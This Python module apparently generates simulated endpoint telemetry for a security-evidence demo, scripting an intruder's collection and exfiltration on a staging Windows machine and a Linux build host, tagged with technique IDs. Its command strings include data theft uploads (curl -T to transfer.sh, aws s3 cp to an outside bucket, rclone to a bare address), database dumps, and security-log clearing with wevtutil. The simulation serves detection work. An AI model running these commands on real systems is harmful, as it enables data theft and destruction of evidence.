"""The intrusion on the staging machine mfg-ws-208 and on lnx-build-02, and its end."""

from __future__ import annotations

from tui.evidence.demo.acts import known_address
from tui.evidence.demo.legs import CONTEXT
from tui.evidence.demo.rows import Process
from tui.evidence.demo.stories.intruder import COMMAND_NAME, COMMAND_SERVER, SENSITIVE, TOOLS, Intruder
from tui.evidence.demo.timing import MINUTE, SECOND

_STAGE = "mfg-ws-208"
_IN = TOOLS + "in\\"
_OUT = TOOLS + "out\\"
_RUNS = 10
_DROP = "198.51.100.242"
_CACHE = "/var/tmp/.cache/"


def prepare(intruder: Intruder, at: int) -> None:
    """A desktop on the staging machine; a scheduled task; T1119-05: its folders listed."""
    recorder = intruder.recorder
    shell = intruder.take_desktop(intruder.shell("adm-jump-01"), _STAGE, at, 25)
    intruder.footholds[_STAGE] = shell
    with recorder.planted("T1119-07", leg=CONTEXT, note="the task that runs the script is made"):
        command = f'{{image}} /create /tn "Helper Update" /tr "wscript.exe //B {TOOLS}collect.wsf" /sc minute /mo 30'
        recorder.start("schtasks", command, shell, at + 4 * MINUTE)
        scheduler = recorder.running(_STAGE, "scheduler", at)
        recorder.event(
            scheduler, at + 4 * MINUTE + SECOND, "ScheduledTaskCreated", additional='{"TaskName":"\\\\Helper Update"}'
        )
    with recorder.planted("T1119-10", note="shares of many servers tried within the hour"):
        servers = ("fs01", "fs02", "db-01", "build-01", "bkp-03", "sync-01", "dc02")
        intruder.map_shares(shell, servers, at + 7 * MINUTE)
    with recorder.planted("T1119-05", note="listing exported by an encoded command"):
        for number, name in enumerate(("drives.clixml", "projects.csv")):
            when = at + (6 + number * 3) * MINUTE
            script = intruder.hidden_script(
                "pwsh", f"Get-ChildItem C:\\Projects -r | Export-Clixml {_OUT}{name}", shell, when
            )
            recorder.write(script, _OUT + name, 800_000, when + 20 * SECOND)
            recorder.connect(script, when + 25 * SECOND, COMMAND_SERVER, 443, COMMAND_NAME)


def scheduled_collection(intruder: Intruder, at: int) -> None:
    """T1119-07: a .wsf every half hour that copies and packs; T1119-09: what it packed leaves by address."""
    recorder = intruder.recorder
    intruder.footholds["adm-jump-01"] = intruder.take_desktop(intruder.shell("fin-ws-114"), "adm-jump-01", at, 330)
    for run in range(_RUNS):
        _scheduled_run(intruder, run, at + run * 30 * MINUTE)
    at += (_RUNS - 1) * 30 * MINUTE + 6 * MINUTE
    shell = intruder.take_desktop(intruder.shell("adm-jump-01"), _STAGE, at, 30)
    intruder.footholds[_STAGE] = shell
    at += 4 * MINUTE
    with recorder.planted("T1119-09", note="upload to a bucket by renamed rclone"):
        tool = recorder.start("rclone_renamed", f'"{{image}}" sync {_OUT} drop: --upload-wait 1s', shell, at)
        with recorder.planted(
            "T1119-09", note=f"upload to a bare address: only {_DROP} in the list of addresses finds it"
        ):
            intruder.upload(tool, at + 2 * SECOND, _DROP, "", 14)
        url = "nw-parts.s3.amazonaws.com"
        intruder.upload(tool, at + 6 * MINUTE, known_address(url), url, 12)


def _scheduled_run(intruder: Intruder, run: int, at: int) -> None:
    recorder = intruder.recorder
    scheduler = recorder.running(_STAGE, "scheduler", at)
    with recorder.planted("T1119-07", "T1119-03", note=f"run {run + 1} of the scheduled script, told to sync a share"):
        command = f"wscript.exe //B {TOOLS}collect.wsf copy /mode:sync \\\\fs02\\Production\\*"
        session = recorder.new_session(0)
        script = recorder.start("wscript", command, scheduler, at, account="adm.rlind", session=session)
    with recorder.planted("T1119-10", note="the share is mapped for the run"):
        recorder.start("net", "net use \\\\fs02\\Production /persistent:no", script, at + 400_000)
    with recorder.planted("T1119-01", "T1119-10", note="renamed robocopy reads the production share"):
        tool = intruder.child("robocopy_renamed", f'"{{image}}" \\\\fs02\\Production {_IN}prod /e', script, at + SECOND)
        names = [(f"hull {run}-{number}.hcd", "") for number in range(9)]
        end = intruder.read_files(tool, names, "fs02", "Production", _IN + "prod\\", at + 2 * SECOND)
        with recorder.planted("T1119-08", note="sensitive files among those copied"):
            names = [SENSITIVE[run % len(SENSITIVE)], ("Contract drawings.pdf", "Confidential")]
            end = intruder.read_files(tool, names, "fs02", "Production", _IN + "prod\\", end + SECOND)
    with recorder.planted("T1119-08", note="a sensitive file read, and moved after packing"):
        recorder.event(script, end, "SensitiveFileRead", path=_IN + "prod\\Contract drawings.pdf")
        recorder.start("cmd", f"{{image}} /c move {_IN}prod {_IN}done{run}", script, end + 50 * SECOND)
    with recorder.planted("T1119-02", note="volumes below 100 MB packed by renamed 7-Zip"):
        pack = intruder.child("seven_zip_renamed", f'"{{image}}" a -v90m {_OUT}set{run}.7z {_IN}prod', script, end)
        with recorder.planted("T1119-07", note="packed by the scheduled script"):
            for volume, size in enumerate((94_371_840, 31_000_000 + run), start=1):
                recorder.write(pack, f"{_OUT}set{run}.7z.{volume:03}", size, end + volume * 12 * SECOND)
            recorder.write(pack, f"{_OUT}set{run}.list.7z", 1_400_000 + run, end + 30 * SECOND)
            recorder.connect(script, end + 40 * SECOND, _DROP, 443)
    if run % 2 == 0:
        _drop_on_shares(intruder, run, at + 50 * SECOND, end + MINUTE)


def _drop_on_shares(intruder: Intruder, run: int, received: int, dropped: int) -> None:
    """The jump host puts an archive on the staging machine, which puts one on a file server."""
    recorder = intruder.recorder
    jump, stage = intruder.device("adm-jump-01"), intruder.device(_STAGE)
    with recorder.planted("T1119-10", note="an archive is put on another machine's share"):
        recorder.share_connection(jump, _STAGE, received)
        with recorder.planted("T1119-01", note="an archive arrives while the copy tool runs"):
            path = f"{_IN}jump{run}.7z"
            recorder.write_by_share(
                _STAGE, path, 61_000_000, received + SECOND, share="C$", account="adm.rlind", source=jump
            )
        recorder.share_connection(stage, "fs01", dropped, 139)
        path = f"D:\\Shares\\Public\\temp\\set{run}.7z.001"
        recorder.write_by_share(
            "fs01", path, 94_371_840, dropped + SECOND, share="Public", account="adm.rlind", source=stage
        )


def linux(intruder: Intruder, at: int) -> None:
    """lnx-build-02 over ssh from the jump host: capture, NFS, dump, scripts, archives, uploads."""
    recorder = intruder.recorder
    source = intruder.device("adm-jump-01")
    with recorder.planted("intrusion", note="logon by ssh from the jump host"):
        daemon = recorder.running("lnx-build-02", "logon service", at)
        recorder.accept(daemon, at, source, 22)
        session = recorder.new_session(3, remote=source)
        recorder.logon("lnx-build-02", at + SECOND, "svc_ci", "Network", source=source, session=session, protocol="ssh")
        shell = recorder.start("bash", "-bash", daemon, at + 2 * SECOND, account="svc_ci", session=session)
    with recorder.planted("T1119-04", note="traffic capture by renamed tcpdump"):
        path = _CACHE + "a.pcap"
        intruder.capture(
            shell, "tcpdump_renamed", f"{{image}} -i any -s0 -w {path} not port 22", path, at + MINUTE, size=88_000_000
        )
    _linux_shares(intruder, shell, at + 6 * MINUTE)
    with recorder.planted("T1119-06", note="database dumped over the network"):
        for number, name in enumerate(("orders", "portal")):
            when = at + (20 + 3 * number) * MINUTE
            path = f"{_CACHE}{name}.sql"
            tool = recorder.start("pg_dump_linux", f"{{image}} -h db-02 -U postgres -f {path} {name}", shell, when)
            recorder.connect(tool, when + SECOND, recorder.estate.device("db-02"), 5432)
            recorder.write(tool, path, 210_000_000 + number, when + 30 * SECOND, "FileModified")
    _linux_archives(intruder, shell, at + 28 * MINUTE)


def _linux_shares(intruder: Intruder, shell: Process, at: int) -> None:
    """T1119-10 without port 445: NFS exports of six servers."""
    recorder = intruder.recorder
    with recorder.planted("T1119-10", note="NFS exports of many servers mounted"):
        for number, server in enumerate(("fs01", "fs02", "bkp-03", "db-02", "lnx-dev-05", "deploy-01")):
            when = at + number * 90 * SECOND
            tool = recorder.start("mount_nfs", f"{{image}} {server}:/export /mnt/{number}", shell, when)
            for attempt in range(4):
                recorder.connect(tool, when + (1 + attempt) * SECOND, recorder.estate.device(server), 2049)
        with recorder.planted("T1119-10", leg=CONTEXT, note="what copies from the mounted export"):
            copy = recorder.start("cp", "cp -r /mnt/1/projects /var/tmp/.cache/in", shell, at + 10 * MINUTE)
        for number in range(12):
            when = at + 10 * MINUTE + (1 + number) * SECOND
            recorder.write(copy, f"{_CACHE}in/plan{number}.pdf", 400_000, when, "FileModified")


def _linux_archives(intruder: Intruder, shell: Process, at: int) -> None:
    recorder = intruder.recorder
    with recorder.planted("T1119-03", note="script told to back up homes and sync them away"):
        command = f"bash -c 'backup --recursive /home/* {_CACHE}in && sync'"
        script = recorder.start("bash", command, shell, at)
        recorder.connect(script, at + MINUTE, COMMAND_SERVER, 443, COMMAND_NAME)
    with recorder.planted("T1119-02", note="archives packed by tar"):
        with recorder.planted("T1119-03", leg="children", note="what the script packs with"):
            tool = recorder.start("tar", f"tar -czf {_CACHE}homes.tgz /home", script, at + SECOND)
        with recorder.planted("T1119-03", leg="child_archives", note="what the script's child packed"):
            for number in range(4):
                when = at + (9 + 9 * number) * SECOND
                recorder.write(tool, f"{_CACHE}homes{number}.tgz", 97_000_000, when, "FileModified")
    cron = recorder.running("lnx-build-02", "scheduler", at)
    with recorder.planted("T1119-07", note="cron runs a collecting script"):
        for run in range(9):
            when = at + (2 + 10 * run) * MINUTE
            script = recorder.start("bash", f"bash {_CACHE}pull.sh copy export", cron, when, account="svc_ci")
            pack = intruder.child("tar", f"tar -czf {_CACHE}run{run}.tar.gz {_CACHE}in", script, when + SECOND)
            recorder.write(pack, f"{_CACHE}run{run}.tar.gz", None, when + 12 * SECOND, "FileModified")
            recorder.connect(script, when + 20 * SECOND, COMMAND_SERVER, 443, COMMAND_NAME)
    with recorder.planted("T1119-09", note="uploads by curl and aws"):
        when = at + 12 * MINUTE
        url = "transfer.sh"
        tool = recorder.start("curl_linux", f"curl -T {_CACHE}homes.tgz https://{url}/h", shell, when)
        intruder.upload(tool, when + SECOND, known_address(url), url, 6)
        url = "nw-parts.s3.amazonaws.com"
        tool = recorder.start("aws", f"aws s3 cp {_CACHE} s3://nw-parts/ --recursive", shell, when + 3 * MINUTE)
        intruder.upload(tool, when + 3 * MINUTE + SECOND, known_address(url), url, 9)


def clean_up(intruder: Intruder, at: int) -> None:
    """Archives deleted, logs cleared."""
    recorder = intruder.recorder
    for short in ("fin-ws-114", _STAGE):
        shell = intruder.shell(short)
        with recorder.planted("T1119-08", leg=CONTEXT, note="what was collected is deleted"):
            eraser = recorder.start("cmd", f"{{image}} /c del /s /q {_IN} & rem delete", shell, at)
            for number, (name, _) in enumerate(SENSITIVE):
                recorder.write(eraser, f"{_IN}fin\\{name}", None, at + (1 + number) * SECOND, "FileDeleted")
        with recorder.planted("intrusion", note="the security log is cleared"):
            tool = recorder.start("wevtutil", "{image} cl Security", shell, at + MINUTE)
            recorder.event(tool, at + MINUTE + SECOND, "SecurityLogCleared")
